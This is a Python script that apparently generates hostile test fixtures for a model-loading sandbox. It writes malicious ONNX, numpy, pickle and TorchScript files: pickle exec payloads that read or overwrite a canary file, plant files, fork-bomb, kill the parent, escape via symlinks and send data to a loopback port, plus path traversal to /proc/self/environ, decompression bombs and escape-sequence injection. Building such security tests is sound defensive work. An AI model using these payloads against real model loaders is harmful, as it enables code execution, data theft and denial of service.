"""Strangers' models, written with the packages of an image: onnx_hostile_models.py CANARY PORT.

CANARY is a file of the host whose content nobody may see; on PORT of the loopback somebody listens.
"""

import json
import os
import pickle
import sys
import zipfile
from pathlib import Path

import numpy
import torch
from onnx import TensorProto, helper

CANARY, PORT = sys.argv[1:3]
INT64, BOOL, FLOAT = TensorProto.INT64, TensorProto.BOOL, TensorProto.FLOAT


def ends(*names):
    return [helper.make_tensor_value_info(name, FLOAT, ["batch", 4]) for name in names]


def graph(nodes, weights=(), out="y"):
    return helper.make_graph(list(nodes), "g", ends("x"), ends(out), list(weights))


def save(name, made, **more):
    opsets = [helper.make_opsetid("", 17), *more.pop("opsets", [])]
    Path(f"{name}.onnx").write_bytes(
        helper.make_model(made, opset_imports=opsets, ir_version=8, **more).SerializeToString()
    )


def external(name, location, **more):
    weight = TensorProto(name="w", data_type=FLOAT, dims=[4, 4], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, **more}.items():
        weight.external_data.add(key=key, value=str(value))
    save(name, graph([helper.make_node("MatMul", ["x", "w"], ["y"])], [weight]))


def summed(node, *weights):
    """A graph that adds the sum of what a node gives."""
    rest = [
        helper.make_node("ReduceSum", ["c"], ["r"], keepdims=0),
        helper.make_node("Add", ["x", "r"], ["y"]),
    ]
    return graph([node, *rest], weights)


def value(name, kind, data):
    array = numpy.array(data)
    return helper.make_tensor(name, kind, list(array.shape), array.reshape(-1))


def onnx_files():
    external("outside-up", os.path.relpath(CANARY, "/a/b"))
    external("outside-absolute", CANARY)
    external("outside-device", "/dev/zero")
    external("outside-process", "/proc/self/environ")
    external("weight-cut", "w.bin", length=1 << 50)
    external("weight-before", "w.bin", offset=-5)
    Path("w.bin").write_bytes(bytes(64))
    wide = TensorProto(name="w", data_type=FLOAT, dims=[1 << 40, 4], raw_data=bytes(16))
    save("dimensions", graph([helper.make_node("MatMul", ["x", "w"], ["y"])], [wide]))
    save("constant", summed(helper.make_node("ConstantOfShape", ["s"], ["c"]), value("s", INT64, [1 << 42])))
    shape = value("s", INT64, [1 << 20, 1 << 16])
    save("expand", summed(helper.make_node("Expand", ["o", "s"], ["c"]), shape, value("o", FLOAT, [[1.0]])))
    save("loop", loop())
    same = [helper.make_node("Add", ["x", "b"], ["a"]), helper.make_node("Add", ["x", "a"], ["b"])]
    save("cycle", graph([*same, helper.make_node("Identity", ["a"], ["y"])]))
    own = helper.make_opsetid("own", 1)
    again = helper.make_node("Again", ["a"], ["b"], domain="own")
    function = helper.make_function("own", "Again", ["a"], ["b"], [again], [helper.make_opsetid("", 17), own])
    calls = graph([helper.make_node("Again", ["x"], ["y"], domain="own")])
    save("function", calls, functions=[function], opsets=[own])
    name = "\x1b[31m<script>alert(1)</script>\n"
    save("names", graph([helper.make_node("Relu", ["x"], ["../../evil"], name=name)], out="../../evil"))
    Path("empty.onnx").write_bytes(b"")
    Path("random.onnx").write_bytes(numpy.random.default_rng(1).bytes(5000))
    save("good", graph([helper.make_node("Relu", ["x"], ["y"])]))


def loop():
    """2 ** 60 rounds."""
    inputs = [("i", INT64), ("t", BOOL), ("a", FLOAT)]
    nodes = [helper.make_node("Identity", ["t"], ["u"]), helper.make_node("Add", ["a", "one"], ["b"])]
    body = helper.make_graph(
        nodes,
        "body",
        [helper.make_tensor_value_info(name, kind, []) for name, kind in inputs],
        [helper.make_tensor_value_info("u", BOOL, []), helper.make_tensor_value_info("b", FLOAT, [])],
        [value("one", FLOAT, 1.0)],
    )
    node = helper.make_node("Loop", ["n", "t", "zero"], ["r"], body=body)
    weights = [value("n", INT64, 1 << 60), value("t", BOOL, True), value("zero", FLOAT, 0.0)]
    return graph([node, helper.make_node("Add", ["x", "r"], ["y"])], weights)


def data_files():
    size = 8 << 30
    packed = zipfile.ZipFile("bomb.npz", "w", zipfile.ZIP_DEFLATED)
    with packed as archive, archive.open("x.npy", "w", force_zip64=True) as stream:
        header(stream, size // 16)
        for _ in range(size >> 24):
            stream.write(bytes(1 << 24))
    with open("huge.npy", "wb") as stream:
        header(stream, 1 << 40)
    numpy.save("objects.npy", numpy.array([Run("open('given/ran', 'w')")], object), allow_pickle=True)


def header(stream, rows):
    numpy.lib.format.write_array_header_1_0(stream, {"descr": "<f4", "fortran_order": False, "shape": (rows, 4)})


class Run:
    """What runs when it is loaded."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


CODES = {
    "writes": f"open({CANARY!r}, 'w').write('changed')",
    "reads": f"print(open({CANARY!r}).read())",
    "home": "import pathlib; (pathlib.Path.home() / 'planted').write_text('x')",
    "roots": "import os; print(open('/proc/1/root' + os.getcwd() + '/../canary').read())",
    "connects": f"import socket; socket.create_connection(('127.0.0.1', {PORT}), 5).sendall(b'stolen')",
    "endless": "while True: pass",
    "memory": "kept = [bytearray(1 << 28) for _ in range(1000)]",
    "forks": "import os, time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(900)\n"
    "        os._exit(0)",
    "stays": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(901)\n"
    "    os._exit(0)",
    "kills": "import os, signal; os.kill(os.getppid(), signal.SIGTERM)",
    "loud": "for _ in range(2000): print('x' * 100000)",
    "escapes": "print('\\x1b]0;owned\\x07\\x1b[2J'); raise ValueError('\\x1b]0;owned\\x07\\x1b[2J')",
    "lies": "import os; open('said/lies.convert.json', 'w').write('{\"model\": \"other\"}'); os._exit(0)",
    "nests": "import os; open('said/nests.convert.json', 'w').write('[' * 200000); os._exit(0)",
    "fills": "import os; open('said/fills.convert.json', 'w').write(' ' * (1 << 28)); os._exit(0)",
    "links": f"import os; os.symlink({CANARY!r}, 'said/links.convert.json'); os._exit(0)",
    "pipes": "import os; os.mkfifo('said/pipes.convert.json'); os._exit(0)",
    "moves": f"import os; os.rmdir('moves'); os.symlink({str(Path(CANARY).parent)!r}, 'moves'); os._exit(0)",
    "logs": f"import os, shutil; shutil.rmtree('log'); os.symlink({str(Path(CANARY).parent)!r}, 'log'); os._exit(0)",
    "litters": "import os\nfor i in range(5000): open(f'litters/{i}', 'w').close()\nos._exit(0)",
    "rewrites": "import os; open('programs/main.py', 'w').write('print(1)'); os._exit(0)",
}


def programs():
    for name, code in CODES.items():
        Path(f"{name}.pkl").write_bytes(pickle.dumps(Run(code)))
    Path("deep.pkl").write_bytes(b"(" * 500_000 + b".")
    Path("cut.pkl").write_bytes(b"\x80\x04X" + (0x7FFFFFFF).to_bytes(4, "little") + b"a")
    torch.save({"0.weight": Run(CODES["writes"])}, "code.pt")
    with zipfile.ZipFile("bomb.pt", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02}q\x00.")
        with archive.open("archive/data/0", "w", force_zip64=True) as stream:
            for _ in range(256):
                stream.write(bytes(1 << 24))
    script = torch.jit.ScriptModule()
    script.define(
        "def forward(self, x):\n"
        f'    return x + torch.from_file("{CANARY}", False, 4, dtype=torch.uint8)[0].to(torch.float32)\n'
    )
    script.save("script.pt")
    Path("models.py").write_text(
        "import torch\n\n\ndef made():\n    return torch.nn.Sequential(torch.nn.Linear(4, 4))\n"
    )


def models():
    """Each with how it is named in an ensemble."""
    put = {"inputs": {"x": {"shape": ["batch", 4]}}}
    found = {file.stem: {"from": "onnx", "file": file.name} for file in sorted(Path().glob("*.onnx"))}
    for file in ("bomb.npz", "huge.npy", "objects.npy"):
        found[f"data-{file[:-4]}"] = {"from": "onnx", "file": "good.onnx", "data": [file]}
    found.update({file.stem: {"from": "sklearn", "file": file.name} for file in sorted(Path().glob("*.pkl"))})
    for file in ("code", "bomb"):
        found[f"weights-{file}"] = {"from": "pytorch", "factory": "models.py:made", "file": f"{file}.pt"}
    found["script"] = {"from": "pytorch", "file": "script.pt"}
    return {name: {**model, **put} for name, model in found.items()}


onnx_files()
data_files()
programs()
asked = {"name": "strangers", "models": models(), "include": ["w.bin"]}
Path("ensemble.yaml").write_text(json.dumps(asked))
